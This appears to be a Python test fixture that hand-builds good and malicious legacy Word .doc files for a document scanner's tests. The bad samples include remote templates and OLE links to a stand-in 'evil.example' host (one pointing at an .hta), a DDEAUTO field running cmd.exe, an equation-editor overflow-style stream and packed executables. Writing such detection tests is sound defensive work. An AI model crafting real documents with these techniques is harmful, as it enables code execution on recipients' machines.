"""Word documents of 1997 to 2003: compound files, by hand."""

from collections.abc import Iterator

from tests.storage.compound import a_doc, compound, word_streams
from tests.storage.corpus.docx import PACKAGE
from tests.storage.corpus.sample import DOC, Sample, good

#: A link's flag, then the moniker of an address.
REMOTE_LINK = b"\1\0\0\2\1\0\0\0" + bytes(20) + "https://evil.example/x.hta".encode("utf-16-le")


def good_ones() -> Iterator[tuple[str, bytes]]:
    yield "Word 97", a_doc(version=0x00C1)
    yield "Word 2003", a_doc(version=0x0112, template=r"C:\Users\Jane\Templates\Resume.dot")
    yield "Word for Mac", a_doc(template="Macintosh HD:Users:jane:Normal")
    yield "LibreOffice", a_doc(template="")
    yield "saved fast", a_doc(flags=0x0204)
    yield "Word 97 for Hebrew", a_doc(version=0x00C0)
    yield "a bit that means nothing by itself", a_doc(flags=0x9200)
    yield "the other table", a_doc(flags=0x0000)
    yield "to be opened read-only", a_doc(flags=0x0200 | 0x0800)
    objects = {"ObjectPool/_12/\x01CompObj": b"x", "ObjectPool/_12/Workbook": bytes(5_000)}
    yield "an embedded sheet", a_doc(more=objects)
    yield "an equation", a_doc(more={"ObjectPool/_12/Equation Native": b"\x1c" + bytes(90)})
    yield "a picture's data", a_doc(more={"Data": b"\xff\xd8\xff" + bytes(9_000)})
    yield (
        "a packed document",
        a_doc(
            more={"ObjectPool/_12/\x01Ole10Native": b"\x40\0\0\0\2\0Zeugnis.pdf\0C:\\Zeugnis.pdf\0"}
        ),
    )
    yield (
        "a link to the machine's own file",
        a_doc(
            more={"ObjectPool/_12/\x01Ole": b"\1\0\0\2\1\0\0\0" + "C:\\a.xls".encode("utf-16-le")}
        ),
    )
    yield "zeros at the end", a_doc() + bytes(700)


def bad_ones() -> Iterator[tuple[str, str, bytes]]:
    yield "doc-macro", "macros", a_doc(more={"Macros/VBA/dir": b"x", "Macros/PROJECT": b"y"})
    yield "doc-macro", "macros of a sheet", a_doc(more={"ObjectPool/_1/_VBA_PROJECT_CUR/a": b"x"})
    yield (
        "doc-macro",
        "macros without their names",
        a_doc(more={"Data": b"\1\0Attribut\0e VB_Name" * 9}),
    )
    yield "doc-password", "encrypted", a_doc(flags=0x0300)
    yield "doc-password", "encrypted in the old way", a_doc(flags=0x8300)
    yield (
        "doc-password",
        "a locked docx",
        compound({"EncryptionInfo": b"x" * 90, "EncryptedPackage": bytes(5_000)}),
    )
    yield "doc-external", "a template", a_doc(template="https://evil.example/t.dot")
    yield "doc-external", "a template on a share", a_doc(template=r"\\evil.example\t.dot")
    yield "doc-external", "a link", a_doc(more={"ObjectPool/_1/\x01Ole": REMOTE_LINK})
    yield "doc-active", "DDE", a_doc(text='\x13 DDEAUTO cmd.exe "/k calc" \x15')
    yield "doc-active", "DDE in wide characters", _wide('\x13 DDE excel "a" \x15')
    yield "doc-active", "a control", a_doc(more={"ObjectPool/_1/\x03OCXNAME": b"a\0"})
    yield (
        "doc-program",
        "a packed program",
        a_doc(more={"ObjectPool/_1/\x01Ole10Native": b"\x40\0\0\0\2\0x\0C:\\a\\x.exe\0"}),
    )
    yield (
        "doc-program",
        "an equation with too long a font",
        a_doc(
            more={
                "ObjectPool/_1/eQuATion nAtIve": b"\x1c" + bytes(32) + b"\x08\x5a\x5a" + b"A" * 60
            }
        ),
    )
    yield "doc-program", "an object in an object", a_doc(more={"ObjectPool/_1/Package": PACKAGE})
    yield "doc-old", "Word 95", a_doc(ident=0xA5DC, version=0x68)
    yield "doc-old", "Word 6", a_doc(version=0x65)
    yield "doc-old", "Word 2", b"\xdb\xa5\x2d\0" + bytes(2_000)
    yield "doc-broken", "cut off", a_doc()[:3_000]
    yield "doc-broken", "no table", compound({"WordDocument": word_streams("a")["WordDocument"]})
    yield "doc-broken", "no block", compound({"WordDocument": b"abc", "1Table": bytes(90)})
    yield "disguised", "a workbook", compound({"Workbook": bytes(9_000)})
    yield "disguised", "a mail", compound({"__properties_version1.0": bytes(900)})
    yield "disguised", "a workbook as well", a_doc(more={"Workbook": bytes(9_000)})


def _wide(text: str) -> bytes:
    streams = word_streams("")
    streams["WordDocument"] = streams["WordDocument"] + text.encode("utf-16-le")
    return compound(streams)


def samples() -> Iterator[Sample]:
    for why, content in good_ones():
        yield good(why, "Lebenslauf.doc", content, DOC)
    for code, why, content in bad_ones():
        yield Sample(why, "Lebenslauf.doc", content, code)
    yield good("a doc called .docx", "cv.docx", a_doc(), DOC)
    yield Sample("a doc called .odt", "cv.odt", a_doc(), "misnamed")
